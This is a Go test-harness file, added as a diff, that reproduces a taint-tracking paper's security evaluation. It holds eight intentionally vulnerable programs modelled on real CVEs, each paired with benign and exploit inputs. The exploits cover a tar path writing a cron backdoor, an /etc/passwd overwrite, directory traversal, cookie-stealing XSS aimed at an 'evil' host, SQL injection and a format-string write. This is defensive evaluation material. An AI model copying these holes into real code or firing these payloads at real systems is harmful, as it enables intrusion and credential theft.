@@ -1,0 +1,359 @@
+// Package attacks reproduces the paper's security evaluation (Table 2):
+// eight programs, each a faithful analogue of the vulnerable code path in
+// the real CVE the paper attacked, plus benign and exploit inputs. Each
+// attack must (a) succeed silently without SHIFT, (b) raise exactly the
+// expected policy alert with SHIFT, and (c) raise nothing on benign input
+// — zero false positives and zero false negatives, as in §5.2.
+package attacks
+
+import (
+	"shift/internal/policy"
+	"shift/internal/shift"
+)
+
+// Attack is one row of Table 2.
+type Attack struct {
+	CVE      string
+	Program  string // original program and version
+	Language string // original implementation language
+	Type     string // attack class
+	Policies string // detection policies, as the paper lists them
+	Expect   string // policy ID the exploit must trip
+
+	Source  string
+	Benign  func() *shift.World
+	Exploit func() *shift.World
+}
+
+// Config returns the policy configuration the attack's server runs under
+// (all policies on, network + file sources — the paper's "low level
+// policies" are always enabled and the high-level ones selected per
+// application).
+func (a *Attack) Config() *policy.Config { return policy.DefaultConfig() }
+
+// netWorld builds a world with the given network input.
+func netWorld(input string) func() *shift.World {
+	return func() *shift.World {
+		w := shift.NewWorld()
+		w.NetIn = []byte(input)
+		return w
+	}
+}
+
+// fileWorld builds a world with one disk file.
+func fileWorld(name string, content []byte) func() *shift.World {
+	return func() *shift.World {
+		w := shift.NewWorld()
+		w.Files[name] = content
+		return w
+	}
+}
+
+// pad returns s padded with NULs to n bytes.
+func pad(s string, n int) []byte {
+	b := make([]byte, n)
+	copy(b, s)
+	return b
+}
+
+// tarArchive builds the fixed-record archive format GnuTar uses:
+// each entry is a 32-byte name, an 8-byte ASCII size, 256 bytes of data.
+func tarArchive(entries ...[2]string) []byte {
+	var out []byte
+	for _, e := range entries {
+		out = append(out, pad(e[0], 32)...)
+		size := []byte{'0', '0', '0'}
+		n := len(e[1])
+		size[0] = byte('0' + n/100)
+		size[1] = byte('0' + n/10%10)
+		size[2] = byte('0' + n%10)
+		out = append(out, pad(string(size), 8)...)
+		out = append(out, pad(e[1], 256)...)
+	}
+	return out
+}
+
+// GnuTar reproduces CVE-2001-1267: tar extracted member names without
+// stripping leading '/', letting a malicious archive write outside the
+// extraction directory. Detected by H1 (tainted absolute path) plus the
+// low-level policies.
+var GnuTar = &Attack{
+	CVE:      "CVE-2001-1267",
+	Program:  "GNU Tar (1.13.x analogue of 1.4)",
+	Language: "C",
+	Type:     "Directory Traversal",
+	Policies: "H1 + Low level policies",
+	Expect:   "H1",
+	Source: `
+char arch[4096];
+char name[40];
+char content[256];
+
+void main() {
+	int fd = open("upload.tar", 0);
+	if (fd < 0) exit(1);
+	int n = read(fd, arch, 4096);
+	int off = 0;
+	int extracted = 0;
+	while (off + 296 <= n) {
+		int i;
+		for (i = 0; i < 32; i++) name[i] = arch[off + i];
+		name[32] = 0;
+		int size = 0;
+		for (i = 0; i < 8; i++) {
+			char c = arch[off + 32 + i];
+			if (c >= '0' && c <= '9') size = size * 10 + (c - '0');
+		}
+		if (size > 256) size = 256;
+		for (i = 0; i < size; i++) content[i] = arch[off + 40 + i];
+		// The vulnerability: the member name is used as the output
+		// path with no check for absolute paths.
+		int out = open(name, 1);
+		if (out >= 0) write(out, content, size);
+		extracted++;
+		off += 296;
+	}
+	print_int(extracted); putc('\n');
+	exit(0);
+}
+`,
+	Benign: fileWorld("upload.tar", tarArchive(
+		[2]string{"docs/readme.txt", "hello world"},
+		[2]string{"docs/notes.txt", "more text"},
+	)),
+	Exploit: fileWorld("upload.tar", tarArchive(
+		[2]string{"/etc/cron.d/evil", "* * * * * root /tmp/backdoor"},
+	)),
+}
+
+// GnuGzip reproduces the gzip -N path vulnerability (CVE-2005-1228
+// analogue): the original filename stored inside the compressed stream is
+// restored verbatim. Detected by H1.
+var GnuGzip = &Attack{
+	CVE:      "CVE-2005-1228",
+	Program:  "GNU Gzip (1.2.4)",
+	Language: "C",
+	Type:     "Directory Traversal",
+	Policies: "H1 + Low level policies",
+	Expect:   "H1",
+	Source: `
+char fbuf[2048];
+char oname[64];
+char data[1024];
+
+void main() {
+	int fd = open("archive.gz", 0);
+	if (fd < 0) exit(1);
+	int n = read(fd, fbuf, 2048);
+	if (n < 2 || fbuf[0] != 31 || fbuf[1] != 139) exit(2);
+	// The stored original name is NUL-terminated at offset 2.
+	int i = 0;
+	while (i < 60 && fbuf[2 + i]) { oname[i] = fbuf[2 + i]; i++; }
+	oname[i] = 0;
+	int dstart = 2 + i + 1;
+	int dlen = n - dstart;
+	for (i = 0; i < dlen; i++) data[i] = fbuf[dstart + i];
+	// The vulnerability: restore to the embedded name unchecked.
+	int out = open(oname, 1);
+	if (out >= 0) write(out, data, dlen);
+	print_int(dlen); putc('\n');
+	exit(0);
+}
+`,
+	Benign: fileWorld("archive.gz",
+		append([]byte{31, 139}, pad("notes.txt\x00original file body", 512)...)),
+	Exploit: fileWorld("archive.gz",
+		append([]byte{31, 139}, pad("/etc/passwd\x00root::0:0::/:/bin/sh", 512)...)),
+}
+
+// Qwikiwiki reproduces CVE-2006-1586: the wiki page parameter is joined
+// onto the page directory, so "../" sequences escape the document root.
+// Detected by H2.
+var Qwikiwiki = &Attack{
+	CVE:      "CVE-2006-1586",
+	Program:  "QwikiWiki (1.4.1)",
+	Language: "PHP",
+	Type:     "Directory Traversal",
+	Policies: "H2 + Low level policies",
+	Expect:   "H2",
+	Source: `
+char req[256];
+char path[512];
+char buf[4096];
+
+void main() {
+	int n = recv(req, 256);
+	if (n <= 0) exit(1);
+	// The vulnerability: the page name joins the docroot unchecked.
+	strcpy(path, "/www/pages/");
+	strcat(path, req);
+	strcat(path, ".txt");
+	int fd = open(path, 0);
+	if (fd < 0) {
+		send("missing", 7);
+		exit(0);
+	}
+	int k = read(fd, buf, 4096);
+	send(buf, k);
+	exit(0);
+}
+`,
+	Benign: func() *shift.World {
+		w := shift.NewWorld()
+		w.NetIn = []byte("home")
+		w.Files["/www/pages/home.txt"] = []byte("welcome to the wiki")
+		return w
+	},
+	Exploit: netWorld("../../../../etc/passwd"),
+}
+
+// xssSource is the shared shape of the three PHP gallery/statistics XSS
+// analogues: a request parameter echoed into HTML output unescaped.
+// The three differ in how the parameter reaches the page, mirroring the
+// distinct CVEs.
+func xssSource(prefix, suffix string) string {
+	return `
+char req[256];
+char page[1024];
+
+void main() {
+	int n = recv(req, 256);
+	if (n <= 0) exit(1);
+	strcpy(page, "` + prefix + `");
+	strcat(page, req);
+	strcat(page, "` + suffix + `");
+	html_write(page, strlen(page));
+	exit(0);
+}
+`
+}
+
+// Scry reproduces CVE-2007-1061: the Scry gallery echoes the requested
+// album name into the page. Detected by H5.
+var Scry = &Attack{
+	CVE:      "CVE-2007-1061",
+	Program:  "Scry (1.1)",
+	Language: "PHP",
+	Type:     "Cross Site Scripting",
+	Policies: "H5 + Low level policies",
+	Expect:   "H5",
+	Source:   xssSource("<html><body><h1>Album: ", "</h1></body></html>"),
+	Benign:   netWorld("holiday2006"),
+	Exploit:  netWorld("<script>document.location='http://evil/'+document.cookie</script>"),
+}
+
+// PhpStats reproduces CVE-2006-2864: php-stats echoes a statistics query
+// parameter. Detected by H5.
+var PhpStats = &Attack{
+	CVE:      "CVE-2006-2864",
+	Program:  "php-stats (0.1.9.1b)",
+	Language: "PHP",
+	Type:     "Cross Site Scripting",
+	Policies: "H5 + Low level policies",
+	Expect:   "H5",
+	Source:   xssSource("<html><table><tr><td>page</td><td>", "</td></tr></table></html>"),
+	Benign:   netWorld("/index.html"),
+	Exploit:  netWorld("<SCRIPT>alert(document.cookie)</SCRIPT>"),
+}
+
+// PhpSysInfo reproduces CVE-2005-3347: phpSysInfo reflects the template
+// parameter. Detected by H5.
+var PhpSysInfo = &Attack{
+	CVE:      "CVE-2005-3347",
+	Program:  "phpSysInfo (2.3)",
+	Language: "PHP",
+	Type:     "Cross Site Scripting",
+	Policies: "H5 + Low level policies",
+	Expect:   "H5",
+	Source:   xssSource("<html><body>template=", "</body></html>"),
+	Benign:   netWorld("classic"),
+	Exploit:  netWorld("<script src=http://evil/x.js></script>"),
+}
+
+// PhpMyFAQ reproduces CVE-2006-5858: the FAQ id parameter is spliced into
+// a SQL query. Detected by H3.
+var PhpMyFAQ = &Attack{
+	CVE:      "CVE-2006-5858",
+	Program:  "phpMyFAQ (1.6.8)",
+	Language: "PHP",
+	Type:     "SQL Command Injection",
+	Policies: "H3 + Low level policies",
+	Expect:   "H3",
+	Source: `
+char id[128];
+char q[512];
+
+void main() {
+	int n = recv(id, 128);
+	if (n <= 0) exit(1);
+	// The vulnerability: the id parameter is spliced into the query
+	// with no quoting or validation.
+	strcpy(q, "SELECT answer FROM faqdata WHERE qid = '");
+	strcat(q, id);
+	strcat(q, "'");
+	sql_exec(q);
+	exit(0);
+}
+`,
+	Benign:  netWorld("20060915"),
+	Exploit: netWorld("42' UNION SELECT password FROM users WHERE '1'='1"),
+}
+
+// Bftpd reproduces the paper's adjusted Bftpd (< 0.96) format-string
+// attack: a user-controlled %n-style directive makes the logging routine
+// store through an attacker-chosen slot index — the GOT overwrite. The
+// tainted store address trips L2.
+var Bftpd = &Attack{
+	CVE:      "N/A",
+	Program:  "Bftpd (0.96 prior)",
+	Language: "C",
+	Type:     "Format string attack",
+	Policies: "L2",
+	Expect:   "L2",
+	Source: `
+char cmd[128];
+int got[64];
+
+// vsnprintf-like formatter: %<idx>n writes the running character count
+// into got[idx]; the index comes straight from user input.
+void format_log(char *fmt) {
+	int i = 0;
+	int count = 0;
+	while (fmt[i]) {
+		if (fmt[i] == '%') {
+			i++;
+			int idx = 0;
+			while (fmt[i] >= '0' && fmt[i] <= '9') {
+				idx = idx * 10 + (fmt[i] - '0');
+				i++;
+			}
+			if (fmt[i] == 'n') {
+				got[idx] = count;
+				i++;
+			}
+		} else {
+			count++;
+			i++;
+		}
+	}
+}
+
+void main() {
+	int n = recv(cmd, 128);
+	if (n <= 0) exit(1);
+	// The vulnerability: the client command is used as a format string.
+	format_log(cmd);
+	send("250 ok", 6);
+	exit(0);
+}
+`,
+	Benign:  netWorld("USER anonymous"),
+	Exploit: netWorld("USER aaaaaaaaaaaaaaaa%7n"),
+}
+
+// All returns Table 2's rows in the paper's order.
+func All() []*Attack {
+	return []*Attack{
+		GnuTar, GnuGzip, Qwikiwiki, Scry, PhpStats, PhpSysInfo, PhpMyFAQ, Bftpd,
+	}
+}
